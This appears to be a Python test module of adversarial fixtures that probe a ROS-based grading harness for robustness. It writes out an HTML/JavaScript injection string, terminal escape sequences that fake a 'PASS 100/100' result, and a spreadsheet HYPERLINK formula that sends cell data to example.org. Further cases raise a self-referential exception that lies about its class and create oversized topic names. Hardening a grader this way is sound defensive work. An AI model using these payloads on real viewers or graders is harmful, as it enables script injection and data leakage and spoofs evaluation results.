"""What a teacher reads: HTML, control sequences, formulas, endless names, a broken traceback."""

from kit import attempt, drive, trick
from std_msgs.msg import Bool

SCRIPT = "</script><script>document.title='owned'</script><img src=x onerror=alert(1)>"
CONTROL = "\x1b[2J\x1b[31mPASS 100/100\x1b]0;owned\x07\x9b2J\u202e\r[bold red]100[/]"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"100")'


def inject(node, text, *more):
    """Put a text into everything that a report shows: log lines, output, the exception."""
    node.get_logger().error(text)
    print(text, *more, sep="\n")
    raise RuntimeError(text)


@trick("exception", score=0)
def html(node, scan):
    """Become a part of a page."""
    inject(node, SCRIPT, "<!--", "]]>", "\u2028")


@trick("exception", score=0)
def terminal(node, scan):
    """Steer a terminal: clear the screen, recolour, retitle, turn text round."""
    inject(node, CONTROL)


@trick("exception", score=0)
def formula(node, scan):
    """Be computed by a table of grades."""
    inject(node, FORMULA, "+1+1", "@SUM(A1)", "-2+3", "\t=1")


class Liar(BaseException):
    """Breaks whoever looks at it."""

    def __str__(self):
        raise RuntimeError("no text")

    __repr__ = __str__

    @property
    def __class__(self):
        return int


@trick("exception", score=0)
def bad_traceback(node, scan):
    """Raise something whose text can't be formed, and that lies about its class and its cause."""
    error = Liar()
    error.__cause__ = error
    raise error


def many_names(node, scan):
    """Make topics with names as long as ROS lets them be."""
    if node.heard == 1:
        for number in range(40):
            with attempt():
                node.create_publisher(Bool, f"/{'a' * 230}_{number}", 1)
    raise RuntimeError("x" * 100_000)


@trick("any")
def huge_names():
    """Names of nodes and topics as long as ROS lets them be, and many."""
    with attempt():
        drive(many_names, name="n" * 200)
    drive(many_names, name="n")
